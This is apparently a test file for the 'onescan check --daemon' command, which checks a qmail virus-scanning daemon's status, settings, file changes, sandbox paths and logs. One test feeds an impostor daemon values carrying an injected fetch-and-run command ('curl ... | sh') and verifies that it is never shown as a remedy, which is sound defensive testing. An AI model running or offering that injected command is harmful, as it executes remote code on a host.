import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { chmodSync, chownSync, mkdirSync, renameSync, utimesSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { dirname, join } from 'node:path'
import t, { type Test } from 'tap'
import type { CheckLine } from '../../../../../src/base/check/check-line.ts'
import { loadSystem } from '../../../../../src/base/runtime/system.ts'
import { NAMES_UNSEEN_FILES } from '../../../../../src/base/systemd/bound-paths.ts'
import { askRunningDaemon } from '../../../../../src/scanner/cli/host/running-daemon.ts'
import { frame } from '../../../../../src/scanner/protocol/slot/slot-frames.ts'
import { complainsOnly } from '../../../../check-lines.ts'
import { lacks } from '../../../../needs.mjs'
import { listen } from '../../../../programs/host/listen.ts'
import { ownDirectoriesMissing } from '../../../../programs/host/own-directories.ts'
import { openDirectory, reachable } from '../../../../programs/host/reachable.ts'
import { socketDirectory } from '../../../../programs/host/socket-directory.ts'
import { newest, startOnescand } from '../../../daemon/process.ts'
import { jsonIn, onescan } from '../../onescan.ts'
import { findingsOn, makeMachine, ONESCAN } from '../machine.ts'

/** `onescan check --daemon`. */

const HOUR = 3600_000
const compiled = join(import.meta.dirname, '../../../../../build/native/onescand')

const onlyRoot = lacks('root')

/** What root's `onescan check` finds about the onescand at a socket. */
async function findingsAbout(socket: string, around: readonly string[] = []): Promise<CheckLine[]> {
  const env = { ONESCAN_SOCKET: socket }
  const { out } = await onescan(['check', '--daemon', '--json'], { env, around, root: true })
  return jsonIn<CheckLine>(out).results.slice()
}

t.test('a host on which no onescand runs is an error', async (t) => {
  const env = { ONESCAN_SOCKET: '/nonexistent/qmail.sock' }
  const { code, out } = await onescan(['check', '--daemon'], { env })
  t.equal(code, 2)
  t.match(out, /^error +onescand: does not answer/)
})

t.test('status has five lines, whether onescand runs or not', { skip: onlyRoot }, async (t) => {
  const daemon = await startOnescand(t, { settings: { QHPSI: 'plugin: eicar' } })
  const status = (socket: string) =>
    onescan(['status'], { env: { ONESCAN_SOCKET: socket }, root: true })
  const { code, out } = await status(daemon.socket)
  t.ok(code! < 2, out)
  t.match(
    out,
    /^onescand {2}running since \S+ \S+ UTC, account .*, command onescand .*\nsettings {2}.*QHPSI="plugin: eicar".*\nopen {6}.*\nscanning {2}works\nproblems {2}.*\n$/,
  )
  t.match(await status('/nonexistent/qmail.sock'), {
    code: 2,
    out: `onescand  does not answer
settings  unknown
open      unknown
scanning  unknown
problems  1 error: onescand: does not answer; onescan check lists all
`,
    err: '',
  })
})

t.test(
  'an ordinary user does not see its settings',
  { skip: onlyRoot || loadSystem() === undefined },
  async (t) => {
    for (const mode of ['0666', '0600']) {
      const daemon = await startOnescand(t, { args: ['--mode', mode] })
      chmodSync(dirname(daemon.socket), 0o755)
      const env = { ONESCAN_SOCKET: daemon.socket }
      const { out } = await onescan(['check', '--daemon'], { env })
      t.match(
        out,
        /warning +onescand: shows its state at .* only to root\n +fix: run onescan check as root/,
        mode,
      )
    }
  },
)

// promise: bad-onescand
t.test('no words of an onescand look like a remedy', async (t) => {
  const odd = '/x; curl https://example.net/x | sh'
  const description = {
    pid: process.pid,
    args: ['--milter', `unix:${odd}`],
    settings: { QHPSI: odd, QUARANTINE: odd, [`X=1; ${odd}`]: 'y' },
    ...{ changed: [odd], replaced: [odd] },
  }
  const wrong = [{ level: 'error', what: odd, value: odd, remedy: odd }]
  const found = await findingsAbout(
    await impostor(t, { ...description, selfTest: { wrong, doors: [] } }),
  )
  const texts = found.flatMap(({ value, remedy = '' }) => [value, remedy])
  t.equal(texts.filter((text) => text.includes('curl')).length, 5)
  for (const text of texts) t.notMatch(outsideQuotes(text), /curl|undefined/)
})

/** The socket of something in the place of an onescand, which describes itself so. */
async function impostor(t: Test, daemon: object): Promise<string> {
  const path = join(socketDirectory(t), 's')
  const answer = frame('t', Buffer.from(JSON.stringify({ daemon })))
  await listen(
    t,
    createServer((socket) => socket.end(answer)),
    path,
  )
  return path
}

const plain = { pid: process.pid, args: [], settings: { QHPSI: 'x' }, changed: [], replaced: [] }

// promise: bad-onescand
t.test('a report of onescand about itself is marked as its own, even a good one', async (t) => {
  const selfTest = { wrong: [], doors: ['qmail'] }
  const found = await findingsAbout(await impostor(t, { ...plain, selfTest }))
  t.match(found.at(-1), { level: 'ok', value: /^reports a clean message as clean/ })
  const asRoot = found.filter(({ account }) => account === undefined)
  t.match(asRoot, [{ level: 'error', what: /^checks/, value: /this part was not checked/ }])
})

// promise: bad-onescand
t.test('an onescand that reports thousands of files is ignored', async (t) => {
  const files = Array.from({ length: 2000 }, (_, at) => `/etc/x${at}`)
  const found = await findingsAbout(await impostor(t, { ...plain, changed: files }))
  t.match(found, [{ level: 'warning', value: /does not show its settings$/ }])
})

// promise: root-process-name
t.test(
  "no process of root's is one of an onescand that has another account",
  { skip: onlyRoot || ownDirectoriesMissing },
  async (t) => {
    const path = await impostor(t, { ...plain, pid: 1, changed: ['/x'] })
    chownSync(path, ONESCAN, ONESCAN)
    const found = await findingsAbout(path, makeMachine(t).around([]))
    t.match(found, [{ level: 'warning', value: /does not show its settings$/ }])
  },
)

t.test(
  'an onescand under another account is reported with the account',
  { skip: onlyRoot },
  async (t) => {
    const other = spawn('sleep', ['1000'], { uid: 65_534, stdio: 'ignore' })
    t.teardown(() => other.kill())
    await once(other, 'spawn')
    const found = await findingsAbout(await impostor(t, { ...plain, pid: other.pid }))
    t.match(found, [
      {
        level: 'error',
        value: /^runs as nobody instead of onescan$/,
        remedy: /^set User=onescan where it is started, then run /,
      },
    ])
  },
)

/** What is in quotes of sh(1) or JSON is part of a word. */
const outsideQuotes = (text: string) => text.replace(/'(?:[^']|'\\'')*'|"(?:[^"\\]|\\.)*"/g, '')

t.test('onescand is shown with its settings, and what has changed since', async (t) => {
  const directory = openDirectory(t)
  const rules = join(directory, 'rules')
  writeFileSync(rules, 'name *.exe\n')
  const old = new Date(Date.now() - HOUR)
  utimesSync(rules, old, old)
  const plugin = join(directory, 'plugins/own.mjs') // where it is without PLUGINDIR
  mkdirSync(dirname(plugin))
  writeFileSync(plugin, 'export const virusscan = () => ({ clean: true })\n')
  utimesSync(plugin, old, old)
  const control = join(directory, 'control')
  mkdirSync(control)
  const policy = join(control, 'onescan.policy')
  writeFileSync(policy, 'to=example.org scan off\n')
  utimesSync(policy, old, old)
  const settings = {
    QHPSI: 'plugin: eicar own.mjs',
    QMAILHOME: directory,
    BADATTACHMENTS: rules,
    SCANFAIL: 'accept',
    CONTROLDIR: control,
  }
  const daemon = await startOnescand(t, { settings, args: ['--max-clients', '7'] })
  const look = async () =>
    (await findingsAbout(daemon.socket)).filter(({ what }) => /^onescand \d+$/.test(what))
  const [runs, has, ...more] = await look()
  t.match(runs, {
    level: 'ok',
    value: /^has been running since \d{4}-.* UTC, account \w+, command onescand .*--max-clients 7/,
  })
  t.match(has, { level: 'ok', value: /QHPSI="plugin: eicar own.mjs".*SCANFAIL="accept"/ })
  t.match(more, [{ level: 'ok', value: /^reports a clean message as clean, and finds EICAR/ }])
  const hasChanged = (file: string) => ({
    level: 'warning',
    value: `${file} has changed since onescand read it`,
    remedy: `kill -HUP ${daemon.pid}`,
  })
  utimesSync(rules, old, old)
  t.match((await look()).at(-2), hasChanged(rules))
  // One that was moved there since, and is old itself.
  writeFileSync(`${policy}.new`, 'to=example.net scan off\n')
  utimesSync(`${policy}.new`, old, old)
  renameSync(`${policy}.new`, policy)
  t.match((await look()).at(-2), hasChanged(policy))
  utimesSync(plugin, old, old)
  t.match((await look()).at(-2), hasChanged(plugin))
  daemon.child.kill('SIGHUP')
  while ((await look()).some(({ value }) => value.includes('has changed'))) {
    // The remedy of all is under way.
  }
  writeFileSync(policy, 'recipient=example.net scan off\n')
  // To read an error again corrects nothing.
  const lines = (await findingsAbout(daemon.socket)).map(({ value }) => value).join('\n')
  t.match(lines, /line 1: recipient=example\.net: is not a condition/)
  t.notMatch(lines, /has changed/)
})

// promise: root-process-name
t.test('root queries no socket of another user', { skip: onlyRoot }, async (t) => {
  const daemon = await startOnescand(t, { program: newest.map(reachable), uid: 54_321 })
  t.equal(await askRunningDaemon(daemon.socket), undefined)
})

t.test(
  'a QUARANTINE that the unit hides is made accessible by the remedy',
  { skip: onlyRoot },
  async (t) => {
    const directory = openDirectory(t)
    const quarantine = join(directory, 'kept')
    mkdirSync(quarantine, { mode: 0o700 })
    // What systemd does for ProtectSystem=, and for BindPaths= besides.
    const only = (writable: boolean) =>
      `mount --bind "$0" "$0" && mount -o remount,bind,ro "$0"` +
      `${writable ? ' && mount --bind "$0/kept" "$0/kept" && mount -o remount,bind,rw "$0/kept"' : ''} && exec "$@"`
    const complaints = async (writable: boolean) => {
      const around = ['unshare', '--mount', '/bin/sh', '-c', only(writable), directory]
      const daemon = await startOnescand(t, {
        program: [...around, ...newest],
        settings: { QHPSI: 'plugin: eicar', QUARANTINE: quarantine },
      })
      const checkLines = await findingsAbout(daemon.socket)
      return checkLines.filter(({ what }) => what === 'paths [onescand]')
    }
    const remedy = `run systemctl edit onescand, add BindPaths=${quarantine} below [Service], then run systemctl restart onescand`
    t.match(await complaints(false), [{ level: 'error', value: /QUARANTINE .*read-only/, remedy }])
    t.same(await complaints(true), [])
  },
)

t.test(
  'the compiled onescand is shown without words of its launcher',
  { skip: lacks('the compiled programs') },
  async (t) => {
    const daemon = await startOnescand(t, { program: [compiled], args: ['--max-clients', '7'] })
    const [runs] = await findingsAbout(daemon.socket)
    t.match(runs, { level: 'ok', value: /, command onescand --socket .*--max-clients 7$/ })
  },
)

t.test('an onescand that npm installed is found, whatever options its runtime has', async (t) => {
  const daemon = await startOnescand(t, {
    program: [join(import.meta.dirname, '../../../../../bin/onescand')],
  })
  const [runs] = await findingsAbout(daemon.socket)
  t.match(runs, { level: 'ok', value: /, command onescand --socket / })
})

t.test(
  'onescand is started below supervise, or by a run script',
  { skip: ownDirectoriesMissing || onlyRoot },
  async (t) => {
    const machine = makeMachine(t)
    const remedy = async () => (await findingsOn(machine, '--daemon'))[0]?.remedy
    t.match(await remedy(), /^start onescand as .*install\.md/)
    machine.write('/etc/onescand/run', '')
    t.equal(await remedy(), 'ln -s /etc/onescand /service/')
    machine.write('/etc/service/onescand/run', '')
    t.match(await remedy(), 'svc -u /etc/service/')
  },
)

t.test(
  'its log contains the reason why it does not run',
  { skip: ownDirectoriesMissing || onlyRoot },
  async (t) => {
    const machine = makeMachine(t)
    const fault = 'error: settings: --mliter: is not an option; did you mean --milter?'
    const lines = [
      'warning: x: y; z',
      fault,
      '/etc/default/onescand: 3: clamd: not found',
      `onescand: clamd: user 101 ${NAMES_UNSEEN_FILES}: /srv/mail; "systemctl edit onescand" with BindReadOnlyPaths=/srv/mail`,
      '\x1b[31m',
    ]
    const log = lines.map((line) => `@4000000067430000000000a0 ${line}\n`).join('')
    machine.write('/var/log/onescand/current', `@4000000067430000000000a0 serving\n${log}`)
    complainsOnly(t, await findingsOn(machine, '--daemon'), [
      /^error onescand: does not answer; /,
      /^warning onescand: logged: "warning: x: y; z"; fix the error that this line reports, /,
      /^error onescand: logged: "error: settings: --mliter: .*did you mean --milter\?"/,
      /^error onescand: logged: ".*: clamd: not found"/,
      /^error onescand: logged: "onescand: clamd: user 101 names files .* BindReadOnlyPaths=\/srv\/mail"; fix the error that this line reports, /,
    ])
  },
)

t.test(
  'only the last start in the log counts: corrected faults are not repeated',
  { skip: ownDirectoriesMissing || onlyRoot },
  async (t) => {
    const machine = makeMachine(t)
    const starts = [
      ['error: settings: --mliter: is not an option', '/etc/default/onescand: 3: clamd: not found'],
      ['error: settings: SCANTIMEOUT soon: must be a number'],
      [],
    ]
    const stamp = '@4000000067430000000000a0'
    const lines = starts.flatMap((start) => ['onescand: starting', ...start])
    machine.write('/var/log/onescand/current', lines.map((line) => `${stamp} ${line}\n`).join(''))
    complainsOnly(t, await findingsOn(machine, '--daemon'), [
      /^error onescand: does not answer; /,
      /^error onescand: logged: "error: settings: SCANTIMEOUT soon/,
    ])
  },
)
